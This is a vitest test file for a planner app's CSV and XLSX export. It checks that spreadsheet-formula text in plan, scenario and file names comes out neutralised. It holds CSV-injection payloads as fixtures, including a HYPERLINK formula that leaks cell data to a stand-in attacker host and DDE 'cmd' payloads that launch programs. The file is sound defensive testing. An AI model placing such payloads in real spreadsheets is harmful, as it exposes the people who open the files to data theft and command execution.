/**
 * Exports are inert (issue 13, item 5). A plan whose consortium name, scenario names and notes and
 * imported file names are spreadsheet formulas is exported to CSV and XLSX. Every CSV cell is read
 * back raw, keeping whether it was quoted: none may begin with `=`, `+`, `-`, `@`, tab or carriage
 * return unless it is a number, and hostile text must arrive quoted and prefixed with a single quote
 * as OWASP's CSV-injection guidance asks. Then every text column of every table is filled with
 * hostile text and written again, so a column added later is covered too. The workbook must store
 * text as strings, never as formulas.
 */
import fs from 'node:fs';
import path from 'node:path';
import { unzipSync, strFromU8 } from 'fflate';
import readExcelFile from 'read-excel-file/node';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createAppContext, type AppContext } from '../../electron/services/appContext.js';
import { planTables, writeCsvFolder, writeWorkbook } from '../../electron/services/exportService.js';
import {
  cellKind,
  csvField,
  toCsv,
  type CellValue,
  type ExportTable,
} from '../../electron/services/exportTables/index.js';
import { parseCsv } from '#shared/import/csv.js';
import { scenarioSchema } from '#shared/scenario/levers.js';
import { importFixtureDir } from '../fixtures/import/files.js';
import { makeTempDir } from '../helpers/tmp.js';

/** What a spreadsheet reads as the start of a formula; written here, not imported, so the test is independent. */
const TRIGGER = /^[=+\-@\t\r]|^\s+[=+\-@]/;
const NUMBER = /^-?\d+(\.\d+)?(e[+-]?\d+)?$/i;

const CONSORTIUM = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the figures")';
const SCENARIOS = ["+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '-2+3', '=1+1, "quoted"; split'];
const NOTES = "=cmd|' /C notepad'!A0";
/** Imported files are named after formulas; tab and carriage return can only lead a file name, not a name typed in. */
const FILES: [fixture: string, hostileName: string][] = [
  ['dfe-cla-number-rate-2025.csv', '=SUM(1+1) looked after.csv'],
  ['ons-mye-dfe-layout.csv', '\t@SUM(1) population.csv'],
  ['ofsted-providers-2023.csv', '\r-2+3 providers.csv'],
];

interface RawField {
  text: string;
  quoted: boolean;
}

/** Splits CSV into fields without interpreting them, remembering which were quoted. */
function rawFields(csv: string): RawField[][] {
  const input = csv.startsWith('\uFEFF') ? csv.slice(1) : csv;
  const rows: RawField[][] = [];
  let row: RawField[] = [];
  let i = 0;
  while (i < input.length) {
    let text = '';
    let quoted = false;
    if (input[i] === '"') {
      quoted = true;
      i++;
      for (;;) {
        if (i >= input.length) throw new Error('unclosed quote');
        if (input[i] === '"') {
          if (input[i + 1] === '"') {
            text += '"';
            i += 2;
            continue;
          }
          i++;
          break;
        }
        text += input[i++];
      }
    } else {
      while (i < input.length && input[i] !== ',' && input[i] !== '\r' && input[i] !== '\n') text += input[i++];
    }
    row.push({ text, quoted });
    if (input[i] === ',') {
      i++;
      continue;
    }
    if (input.startsWith('\r\n', i)) i += 2;
    else if (i < input.length) throw new Error(`unexpected ${JSON.stringify(input[i])} after a field`);
    rows.push(row);
    row = [];
  }
  return rows;
}

/** Checks one file; returns how many cells were neutralised. */
function checkInert(file: string, csv: string): number {
  let neutralised = 0;
  rawFields(csv).forEach((row, r) =>
    row.forEach((field, c) => {
      const where = `${path.basename(file)} row ${r + 1} column ${c + 1}: ${JSON.stringify(field.text)}`;
      if (TRIGGER.test(field.text)) {
        // Only a number, written bare, may start with "-".
        expect(field.quoted, where).toBe(false);
        expect(field.text, where).toMatch(NUMBER);
      }
      if (field.text.startsWith("'") && TRIGGER.test(field.text.slice(1))) {
        expect(field.quoted, where).toBe(true);
        neutralised++;
      }
    }),
  );
  return neutralised;
}

let tmp: { dir: string; cleanup: () => void };
let context: AppContext;

beforeAll(async () => {
  tmp = makeTempDir('planner-export-inert-');
  context = createAppContext({ mode: 'browser', dataDir: path.join(tmp.dir, 'data') });
  context.plans.newPlan();
  context.plans.renameConsortium(CONSORTIUM);
  // The first scenario adds beds, so its differences from the baseline include negative numbers.
  const lever = {
    type: 'blockContract',
    id: 'block',
    label: '=HYPERLINK("http://evil.example","lever")',
    la: 'E08000002',
    commissionedBy: 'consortium',
    beds: 12,
    weeklyPrice: 5_943,
    startYear: '2026',
    termYears: 5,
  };
  SCENARIOS.forEach((name, i) =>
    context.handlers.saveScenario({
      scenario: scenarioSchema.parse({ id: `hostile-${i}`, name, notes: NOTES, levers: i === 0 ? [lever] : [] }),
    }),
  );
  const paths = FILES.map(([fixture, name]) => {
    const target = path.join(tmp.dir, name);
    fs.copyFileSync(path.join(importFixtureDir, fixture), target);
    return { path: target };
  });
  const preview = await context.imports.preview(paths);
  expect(preview.files.map((f) => f.fileName)).toEqual(FILES.map(([, name]) => name));
  expect(preview.canCommit).toBe(true);
  context.imports.commit(preview.previewId);
});

afterAll(() => {
  context?.plans.dispose();
  tmp?.cleanup();
});

describe('CSV fields', () => {
  it('neutralise formula text, keep numbers as numbers and quote separators', () => {
    expect(csvField(-3.5)).toBe('-3.5');
    expect(csvField(0)).toBe('0');
    expect(csvField(null)).toBe('');
    expect(csvField('-3.5')).toBe(`"'-3.5"`);
    expect(csvField('=1+1')).toBe(`"'=1+1"`);
    expect(csvField('+1')).toBe(`"'+1"`);
    expect(csvField('@SUM(1)')).toBe(`"'@SUM(1)"`);
    expect(csvField('\t=1')).toBe(`"'\t=1"`);
    expect(csvField('\r=1')).toBe(`"'\r=1"`);
    expect(csvField('\tplain')).toBe(`"'\tplain"`);
    expect(csvField(' =1')).toBe(`"' =1"`);
    expect(csvField('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`);
    expect(csvField('a;=1')).toBe('"a;=1"'); // a semicolon-separated reader cannot start a cell inside it
    expect(csvField('Manchester')).toBe('Manchester');
    expect(csvField('It’s £1,000')).toBe('"It’s £1,000"');
    expect(csvField(-Infinity)).toBe(`"'-Infinity"`);
  });
});

describe('CSV export of a plan full of formulas', () => {
  it('writes no cell a spreadsheet would run, and every hostile name arrives neutralised', () => {
    const folder = path.join(tmp.dir, 'csv');
    const files = writeCsvFolder(context.plans, context.imports, folder, SCENARIOS);
    const counts: Record<string, number> = {};
    const texts = new Map<string, string[][]>();
    for (const file of files) {
      const csv = fs.readFileSync(file, 'utf8');
      counts[path.basename(file)] = checkInert(file, csv);
      texts.set(path.basename(file), parseCsv(csv));
    }
    const cells = (name: string) => (texts.get(name) ?? []).flat();
    expect(cells('data-by-la.csv')).toContain(`'${CONSORTIUM} (consortium total)`);
    for (const name of SCENARIOS) {
      expect(cells('scenarios.csv'), name).toContain(`'${name}`);
      expect(cells('comparison.csv'), name).toContain(`'${name}`);
    }
    for (const [, name] of FILES) expect(cells('sources.csv'), JSON.stringify(name)).toContain(`'${name}`);
    // Negative numbers stay numbers: differences from the baseline, written bare.
    const raw = rawFields(fs.readFileSync(path.join(folder, 'comparison.csv'), 'utf8'));
    expect(raw.flat().some((f) => !f.quoted && /^-\d/.test(f.text))).toBe(true);
    expect(counts['data-by-la.csv']).toBe(1);
    expect(counts['scenarios.csv']).toBeGreaterThanOrEqual(SCENARIOS.length);
    expect(counts['comparison.csv']).toBeGreaterThanOrEqual(SCENARIOS.length);
    expect(counts['sources.csv']).toBe(FILES.length);
  });

  it('neutralises every text column of every table when each of its cells is hostile', () => {
    const { tables } = planTables(context.plans, context.imports, SCENARIOS);
    expect(tables.map((t) => t.name)).toEqual([
      'Data by LA',
      'Projection',
      'Backtest',
      'Scenarios',
      'Comparison',
      'Assumptions',
      'History',
      'Sources',
      'Missing data',
    ]);
    const payloads = ['=1+1', '+1', '-1', '@SUM(1)', '\t=1', '\r=1', ' =1', '=A1,"x";y\n=B2'];
    const columns: string[] = [];
    for (const table of tables) {
      let n = 0;
      const hostile = (v: CellValue): CellValue =>
        typeof v === 'string' ? (payloads[n++ % payloads.length] ?? '') : v;
      const poisoned: ExportTable = {
        ...table,
        header: table.header.map(hostile) as string[],
        rows: table.rows.map((r) => r.map(hostile)),
      };
      const textColumns = table.header.filter((_, c) => table.rows.some((r) => typeof r[c] === 'string'));
      expect(textColumns.length, table.name).toBeGreaterThan(0);
      columns.push(...textColumns.map((h) => `${table.name}: ${h}`));
      const csv = toCsv(poisoned);
      checkInert(table.name, csv);
      const back = parseCsv(csv);
      expect(back).toHaveLength(table.rows.length + 1);
      [poisoned.header, ...poisoned.rows].forEach((row, r) =>
        row.forEach((v, c) => {
          // numbers as the workbook shows them (the column's decimal places)
          const expected = v === null ? '' : typeof v === 'number' ? csvField(v, cellKind(poisoned, row, c)) : `'${v}`;
          expect(back[r]?.[c], `${table.name} row ${r + 1} column ${c + 1}`).toBe(expected);
        }),
      );
    }
    expect(columns.length).toBeGreaterThanOrEqual(25);
  });
});

describe('XLSX export of the same plan', () => {
  it('stores every text cell as a string, never a formula', async () => {
    const file = await writeWorkbook(context.plans, context.imports, path.join(tmp.dir, 'hostile.xlsx'), SCENARIOS);
    const zip = unzipSync(fs.readFileSync(file));
    const sheets = Object.keys(zip).filter((name) => /^xl\/worksheets\/sheet\d+\.xml$/.test(name));
    expect(sheets.length).toBe(10);
    for (const name of sheets) {
      const xml = strFromU8(zip[name] ?? new Uint8Array());
      expect(xml, name).not.toMatch(/<f[\s>/]/); // no formula element
      // Every cell is a shared string, an inline string or a number: no formula result types.
      for (const [, type] of xml.matchAll(/<c\b[^>]*?\bt="([^"]*)"/g)) expect(['s', 'inlineStr'], name).toContain(type);
    }
    const shared = strFromU8(zip['xl/sharedStrings.xml'] ?? new Uint8Array());
    expect(shared).toContain('=HYPERLINK(');
    const read = await readExcelFile(fs.readFileSync(file));
    const data = read.find((s) => s.sheet === 'Data by LA')?.data ?? [];
    expect(data.some((r) => r[0] === `${CONSORTIUM} (consortium total)`)).toBe(true);
    const scenarios = read.find((s) => s.sheet === 'Scenarios')?.data ?? [];
    for (const name of SCENARIOS)
      expect(
        scenarios.some((r) => r[0] === name),
        name,
      ).toBe(true);
  });
});
